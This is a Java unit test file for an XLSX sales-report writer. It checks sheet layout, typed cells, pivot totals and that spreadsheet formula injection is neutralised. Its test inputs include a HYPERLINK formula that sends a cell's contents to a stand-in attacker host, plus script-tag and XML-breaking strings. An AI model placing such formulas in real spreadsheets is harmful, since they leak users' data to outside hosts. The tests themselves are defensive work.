package com.roboplanet.soconnector.adapters.csv;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.roboplanet.soconnector.domain.model.MatchSource;
import com.roboplanet.soconnector.domain.model.QuantitySource;
import com.roboplanet.soconnector.domain.port.out.ReportRow;
import com.roboplanet.soconnector.domain.port.out.ReportSink;
import com.roboplanet.soconnector.domain.port.out.ReportSink.ReportWriter;
import com.roboplanet.soconnector.domain.port.out.ReportSinkException;
import com.roboplanet.soconnector.domain.port.out.ReportTotals;
import com.roboplanet.soconnector.domain.service.FanOutReportSink;
import java.io.IOException;
import java.io.Reader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Enumeration;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.ReadingOptions;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class XlsxReportSinkTest {
    private static final Clock CLOCK = Clock.fixed(Instant.parse("2026-11-29T13:05:00Z"), ZoneId.of("Europe/Berlin"));

    /** Headings and customers as anyone at the customer's end can type them into the CRM. */
    private static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+49 30 1234",
            "-2x Omnie",
            "@SUM(A1:A9)",
            "=1+1",
            "\tTabbed",
            "<script>alert(1)</script> & \"quotes\" 'single'",
            "]]></t></si><f>1+1</f>",
            "Bell\u0007Bot \u0001 control",
            "lone \uD800 surrogate",
            "Ümlaut Straße 😀");

    @TempDir
    Path dir;

    @Test
    void complete_generatedRun_sheetsAreNamedInOrderAndTheReportSheetIsTyped() throws IOException {
        List<ReportRow> rows = generated(new Random(1), 300);
        Path xlsx = writeXlsx(rows);

        try (ReadableWorkbook workbook = new ReadableWorkbook(xlsx.toFile(), new ReadingOptions(true, false))) {
            assertThat(workbook.getSheets().map(Sheet::getName))
                    .containsExactly("Report", "By customer", "By product", "Summary");
            List<Row> report = workbook.getFirstSheet().read();
            assertThat(texts(report.get(0))).containsExactly(CsvReportSink.HEADER);
            assertThat(report).hasSize(rows.size() + 1);
            for (int i = 0; i < rows.size(); i++) {
                ReportRow expected = rows.get(i);
                Row row = report.get(i + 1);
                assertThat(number(row, 0)).isEqualTo(expected.saleId());
                Cell date = cell(row, 1);
                if (expected.saleDate() == null) {
                    assertThat(empty(date)).isTrue();
                } else {
                    assertThat(date.getType()).isEqualTo(CellType.NUMBER);
                    assertThat(ExcelDates.isDateFormat(date.getDataFormatId(), date.getDataFormatString()))
                            .isTrue();
                    assertThat(date.asDate().toLocalDate()).isEqualTo(expected.saleDate());
                }
                assertThat(number(row, 2)).isEqualTo(expected.customerId());
                assertThat(text(row, 3)).isEqualTo(xmlSafe(expected.customerName()));
                assertThat(text(row, 5)).isEqualTo(xmlSafe(expected.saleHeading()));
                assertThat(text(row, 6)).isEqualTo(expected.productCode());
                if (expected.matched()) {
                    assertThat(row.getCell(8).getType()).isEqualTo(CellType.NUMBER);
                    assertThat(number(row, 8)).isEqualTo(expected.quantity());
                    assertThat(text(row, 10)).isEqualTo(expected.source().name());
                    assertThat(text(row, 11))
                            .isEqualTo(expected.quantitySource().label());
                } else {
                    assertThat(empty(cell(row, 8))).isTrue();
                }
            }
        }
    }

    @Test
    void complete_formulaShapedText_isStoredAsTextCellsAndTheWorkbookHasNoFormula() throws IOException {
        List<ReportRow> rows = new ArrayList<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            String text = HOSTILE.get(i);
            rows.add(row(i + 1, LocalDate.of(2024, 1, 1), 100 + i, text, text, "P" + i, 1, MatchSource.HEADING));
        }
        Path xlsx = writeXlsx(rows);

        try (ReadableWorkbook workbook = new ReadableWorkbook(xlsx.toFile(), new ReadingOptions(true, false))) {
            List<Row> report = workbook.getFirstSheet().read();
            for (int i = 0; i < HOSTILE.size(); i++) {
                Row row = report.get(i + 1);
                for (int column : new int[] {3, 5}) {
                    Cell cell = row.getCell(column);
                    assertThat(cell.getType()).as(HOSTILE.get(i)).isEqualTo(CellType.STRING);
                    assertThat(cell.getFormula()).isNull();
                    assertThat(cell.asString()).isEqualTo(xmlSafe(HOSTILE.get(i)));
                }
            }
            List<Row> byCustomer =
                    workbook.findSheet("By customer").orElseThrow().read();
            assertThat(byCustomer.subList(1, 1 + HOSTILE.size()))
                    .allSatisfy(row -> assertThat(row.getCell(1).getType()).isEqualTo(CellType.STRING));
        }
        for (String part : sheetParts(xlsx).values()) {
            assertThat(part).doesNotContain("<f>", "<f ");
        }
    }

    @Test
    void complete_anyRun_freezesTheHeaderRowAndFiltersTheReportSheet() throws IOException {
        List<ReportRow> rows = generated(new Random(2), 40);
        Path xlsx = writeXlsx(rows);

        Map<String, String> parts = sheetParts(xlsx);
        String report = parts.get("xl/worksheets/sheet1.xml");
        assertThat(report)
                .containsPattern("<pane [^>]*ySplit=\"1\"[^>]*state=\"frozen\"")
                .contains("<autoFilter ref=\"A1:L" + (rows.size() + 1) + "\"");
        assertThat(parts.get("xl/worksheets/sheet2.xml"))
                .containsPattern("<pane [^>]*xSplit=\"2\"[^>]*ySplit=\"1\"[^>]*state=\"frozen\"");
    }

    /** The pivots of one run against the CSV report of the same run (both sinks fed by one writer). */
    @Test
    void complete_generatedRuns_pivotTotalsEqualTheCsvReportOfTheSameRun() throws IOException {
        Random random = new Random(3);
        for (int run = 0; run < 5; run++) {
            // The CSV report refuses a lone surrogate (it cannot be UTF-8): the comparison needs both files.
            // The last run has more customers than rows kept unflushed, so "By customer" goes to the file in parts.
            boolean many = run == 4;
            List<ReportRow> rows = generated(
                    random,
                    many ? 4 * XlsxReportSink.FLUSH_EVERY : 50 + random.nextInt(400),
                    HOSTILE.stream().filter(h -> !h.contains("\uD800")).toList(),
                    many ? 3 * XlsxReportSink.FLUSH_EVERY : 25);
            Path csv = dir.resolve("run" + run + ".csv");
            Path xlsx = dir.resolve("run" + run + ".xlsx");
            ReportSink both = new FanOutReportSink(
                    List.of(new CsvReportSink(csv, CsvReportFormat.DEFAULT), new XlsxReportSink(xlsx, "1.2.3", CLOCK)));
            try (ReportWriter writer = both.open()) {
                rows.forEach(writer::write);
                writer.complete(ReportRows.summary(), ReportTotals.of(rows, List.of()));
            }

            Sums expected = Sums.of(csv);
            try (ReadableWorkbook workbook = new ReadableWorkbook(xlsx.toFile(), new ReadingOptions(true, false))) {
                assertByProduct(workbook.findSheet("By product").orElseThrow().read(), expected);
                assertByCustomer(workbook.findSheet("By customer").orElseThrow().read(), expected);
            }
        }
    }

    @Test
    void complete_summarySheet_saysWhatRanWhenAndWithWhichVersion() throws IOException {
        Path xlsx = writeXlsx(generated(new Random(4), 10));

        try (ReadableWorkbook workbook = new ReadableWorkbook(xlsx.toFile(), new ReadingOptions(true, false))) {
            Map<String, Cell> summary = new LinkedHashMap<>();
            for (Row row : workbook.findSheet("Summary").orElseThrow().read()) {
                if (row.getCellCount() > 1 && row.getCell(0) != null && row.getCell(1) != null) {
                    summary.put(row.getCell(0).getText(), row.getCell(1));
                }
            }
            assertThat(summary.get("Written by").asString()).isEqualTo("so-connector 1.2.3");
            assertThat(summary.get("Run started (Europe/Berlin)").asDate()).isEqualTo("2026-11-29T14:05:00");
            assertThat(summary.get("Source").asString()).isEqualTo("file sales.csv (delimiter ',')");
            assertThat(summary.get("Sales read").asNumber()).isEqualByComparingTo("9");
            assertThat(summary).containsKeys("  matched by heading", "Total quantity", "Note", "Unreadable cells");
            // what the command line lists with its sale: quantities read as 1, quantities to check, unknown codes
            assertThat(summary.get("  sale 342251").asString())
                    .isEqualTo("OMNIE \"10000 x\" (outside 1..9999) in \"10000 x Omnie\"");
            assertThat(summary.get("  sale 342250").asString())
                    .isEqualTo("KETTYBOT x 4711 from \"4711 KettyBot\" (no count marker)");
            assertThat(summary.get("  PD-BB-PRO-01").asString()).isEqualTo("2 sales");
        }
    }

    @Test
    void finish_beforePublish_leavesNothingVisibleAndCloseDiscardsTheTemporaryFile() throws IOException {
        Path target = dir.resolve("product_report.xlsx");
        Files.writeString(target, "previous");
        List<ReportRow> rows = generated(new Random(5), 20);

        try (ReportWriter writer = new XlsxReportSink(target, "1", CLOCK).open()) {
            rows.forEach(writer::write);
            writer.finish(ReportRows.summary(), ReportTotals.of(rows, List.of()));
            assertThat(Files.readString(target)).isEqualTo("previous");
        }

        assertThat(Files.readString(target)).isEqualTo("previous");
        try (Stream<Path> files = Files.list(dir)) {
            assertThat(files).containsExactly(target);
        }
    }

    @Test
    void write_moreRowsThanASheetHolds_failsNamingTheFormatsThatTakeThemAndLeavesNothing() {
        Path target = dir.resolve("big.xlsx");
        List<ReportRow> rows = generated(new Random(6), 40);

        assertThatThrownBy(() -> {
                    try (ReportWriter writer = new XlsxReportSink(target, "1", CLOCK, 10).open()) {
                        rows.forEach(writer::write);
                    }
                })
                .isInstanceOf(ReportSinkException.class)
                .hasMessage("cannot write report " + target + ": a sheet holds at most 10 rows below its header;"
                        + " write this report with --format csv or --format jsonl");
        assertThat(dir).isEmptyDirectory();
    }

    @Test
    void open_missingDirectory_failsNamingTheFile() {
        Path target = dir.resolve("no/such/dir/report.xlsx");

        assertThatThrownBy(() -> new XlsxReportSink(target, "1", CLOCK).open())
                .isInstanceOf(ReportSinkException.class)
                .hasMessageContaining(target.toString())
                .hasMessageContaining("no such directory");
    }

    private static void assertByProduct(List<Row> sheet, Sums expected) {
        assertThat(texts(sheet.get(0)).subList(0, 5))
                .containsExactly("Product code", "Product name", "Quantity", "Sales", "Customers");
        Set<String> seen = new HashSet<>();
        int r = 1;
        for (; r < sheet.size() && !"Total".equals(text(sheet.get(r), 0)); r++) {
            Row row = sheet.get(r);
            String code = text(row, 0);
            seen.add(code);
            assertThat(number(row, 2)).as(code).isEqualTo(expected.byProduct.get(code));
            assertThat(number(row, 3)).as(code).isEqualTo(expected.salesByProduct.get(code));
            assertThat(number(row, 4))
                    .as(code)
                    .isEqualTo(expected.customersByProduct.get(code).size());
            assertThat(number(row, 5) + number(row, 6) + number(row, 7)).isEqualTo(number(row, 2));
            assertThat(number(row, 5)).isEqualTo(expected.bySource.getOrDefault(code + "/QUOTE_LINE", 0L));
            assertThat(number(row, 6)).isEqualTo(expected.bySource.getOrDefault(code + "/UDF", 0L));
            assertThat(number(row, 7)).isEqualTo(expected.bySource.getOrDefault(code + "/HEADING", 0L));
        }
        assertThat(seen).isEqualTo(expected.byProduct.keySet());
        Row total = sheet.get(r);
        assertThat(number(total, 2)).isEqualTo(expected.total);
        assertThat(number(total, 4)).isEqualTo(expected.byCustomer.size());
    }

    private static void assertByCustomer(List<Row> sheet, Sums expected) {
        List<String> header = texts(sheet.get(0));
        assertThat(header.get(0)).isEqualTo("Customer ID");
        assertThat(header.get(header.size() - 1)).isEqualTo("Total");
        List<String> codes = new ArrayList<>();
        for (String label : header.subList(2, header.size() - 1)) {
            codes.add(label.contains("(") ? label.substring(label.lastIndexOf('(') + 1, label.length() - 1) : label);
        }
        int totalColumn = header.size() - 1;
        Set<Long> seen = new HashSet<>();
        int r = 1;
        for (; !"Total".equals(text(sheet.get(r), 1)); r++) {
            Row row = sheet.get(r);
            long customer = number(row, 0);
            seen.add(customer);
            long rowTotal = 0;
            for (int p = 0; p < codes.size(); p++) {
                long value = number(row, 2 + p);
                assertThat(value)
                        .as("customer %d, %s", customer, codes.get(p))
                        .isEqualTo(expected.cells.getOrDefault(customer + "/" + codes.get(p), 0L));
                rowTotal += value;
            }
            assertThat(number(row, totalColumn)).isEqualTo(rowTotal).isEqualTo(expected.byCustomer.get(customer));
        }
        assertThat(seen).isEqualTo(expected.byCustomer.keySet());
        Row total = sheet.get(r);
        for (int p = 0; p < codes.size(); p++) {
            assertThat(number(total, 2 + p)).isEqualTo(expected.byProduct.get(codes.get(p)));
        }
        assertThat(number(total, totalColumn)).isEqualTo(expected.total);
    }

    /** What a person gets by adding up the CSV report's columns. */
    private static final class Sums {
        final Map<String, Long> byProduct = new HashMap<>();
        final Map<String, Long> salesByProduct = new HashMap<>();
        final Map<String, Set<Long>> customersByProduct = new HashMap<>();
        final Map<String, Long> bySource = new HashMap<>();
        final Map<Long, Long> byCustomer = new HashMap<>();
        final Map<String, Long> cells = new HashMap<>();
        long total;

        static Sums of(Path csv) throws IOException {
            Sums sums = new Sums();
            try (Reader in = Files.newBufferedReader(csv, StandardCharsets.UTF_8)) {
                for (CSVRecord record : CSVFormat.DEFAULT
                        .builder()
                        .setHeader()
                        .setSkipHeaderRecord(true)
                        .get()
                        .parse(in)) {
                    if (record.get("ProductCode").isEmpty()) {
                        continue;
                    }
                    String code = record.get("ProductCode");
                    long customer = Long.parseLong(record.get("CustomerId"));
                    long quantity = Long.parseLong(record.get("Quantity"));
                    sums.byProduct.merge(code, quantity, Long::sum);
                    sums.salesByProduct.merge(code, 1L, Long::sum);
                    sums.customersByProduct
                            .computeIfAbsent(code, c -> new HashSet<>())
                            .add(customer);
                    sums.bySource.merge(code + "/" + record.get("Source"), quantity, Long::sum);
                    sums.byCustomer.merge(customer, quantity, Long::sum);
                    sums.cells.merge(customer + "/" + code, quantity, Long::sum);
                    sums.total += quantity;
                }
            }
            return sums;
        }
    }

    private Path writeXlsx(List<ReportRow> rows) {
        Path target = dir.resolve("product_report.xlsx");
        try (ReportWriter writer = new XlsxReportSink(target, "1.2.3", CLOCK).open()) {
            rows.forEach(writer::write);
            writer.complete(ReportRows.summary(), ReportTotals.of(rows, List.of()));
        }
        return target;
    }

    /** Every worksheet part of the workbook, by its name in the zip. */
    static Map<String, String> sheetParts(Path xlsx) throws IOException {
        Map<String, String> parts = new LinkedHashMap<>();
        try (ZipFile zip = new ZipFile(xlsx.toFile())) {
            Enumeration<? extends ZipEntry> entries = zip.entries();
            while (entries.hasMoreElements()) {
                ZipEntry entry = entries.nextElement();
                if (entry.getName().startsWith("xl/worksheets/")) {
                    parts.put(
                            entry.getName(),
                            new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8));
                }
            }
        }
        return parts;
    }

    /** Sales with 1 to 3 products each, some unmatched, customers and headings now and then hostile. */
    static List<ReportRow> generated(Random random, int sales) {
        return generated(random, sales, HOSTILE, 25);
    }

    /** As {@link #generated(Random, int)} with these hostile texts and customer ids from 1 to {@code customers}. */
    static List<ReportRow> generated(Random random, int sales, List<String> hostile, int customers) {
        List<ReportRow> rows = new ArrayList<>();
        MatchSource[] sources = MatchSource.values();
        for (int sale = 1; sale <= sales; sale++) {
            long customer = 1 + random.nextInt(customers);
            String name = random.nextInt(8) == 0 ? hostile.get(random.nextInt(hostile.size())) : "Customer " + customer;
            String heading = random.nextInt(6) == 0 ? hostile.get(random.nextInt(hostile.size())) : "Heading " + sale;
            LocalDate date = random.nextInt(10) == 0
                    ? null
                    : LocalDate.of(2023 + random.nextInt(3), 1 + random.nextInt(12), 1 + random.nextInt(28));
            if (random.nextInt(10) == 0) {
                rows.add(new ReportRow(sale, date, customer, name, "Rep", heading, "", "", 0, "", null, null));
                continue;
            }
            int products = 1 + random.nextInt(3);
            for (int p = 0; p < products; p++) {
                rows.add(row(
                        sale,
                        date,
                        customer,
                        name,
                        heading,
                        "P" + (p * 5 + random.nextInt(5)),
                        1 + random.nextInt(40),
                        sources[random.nextInt(sources.length)]));
            }
        }
        return rows;
    }

    private static ReportRow row(
            long sale,
            LocalDate date,
            long customer,
            String name,
            String heading,
            String code,
            int quantity,
            MatchSource source) {
        QuantitySource quantitySource = switch (source) {
            case QUOTE_LINE -> QuantitySource.QUOTE_LINE;
            case UDF -> QuantitySource.UDF;
            case HEADING -> QuantitySource.MARKER;
        };
        return new ReportRow(
                sale,
                date,
                customer,
                name,
                "Rep",
                heading,
                code,
                "Product " + code,
                quantity,
                code,
                source,
                quantitySource);
    }

    /** The text as XML can carry it: control characters other than tab and line breaks, and lone surrogates, go. */
    static String xmlSafe(String text) {
        StringBuilder kept = new StringBuilder();
        text.codePoints()
                .filter(c -> c == '\t'
                        || c == '\n'
                        || c == '\r'
                        || (c >= 0x20 && c <= 0xD7FF)
                        || (c >= 0xE000 && c <= 0xFFFD)
                        || c > 0xFFFF)
                .forEach(kept::appendCodePoint);
        return kept.toString();
    }

    private static List<String> texts(Row row) {
        List<String> texts = new ArrayList<>();
        for (int c = 0; c < row.getCellCount(); c++) {
            texts.add(text(row, c));
        }
        return texts;
    }

    private static String text(Row row, int column) {
        Cell cell = column < row.getCellCount() ? row.getCell(column) : null;
        return cell == null || cell.getType() == CellType.EMPTY ? "" : cell.getText();
    }

    private static long number(Row row, int column) {
        Cell cell = column < row.getCellCount() ? row.getCell(column) : null;
        if (cell == null || cell.getType() == CellType.EMPTY) {
            return 0;
        }
        assertThat(cell.getType()).as("cell %s", cell.getAddress()).isEqualTo(CellType.NUMBER);
        BigDecimal value = cell.asNumber();
        return value.longValueExact();
    }

    private static Cell cell(Row row, int column) {
        return column < row.getCellCount() ? row.getCell(column) : null;
    }

    private static boolean empty(Cell cell) {
        return cell == null || cell.getType() == CellType.EMPTY;
    }
}
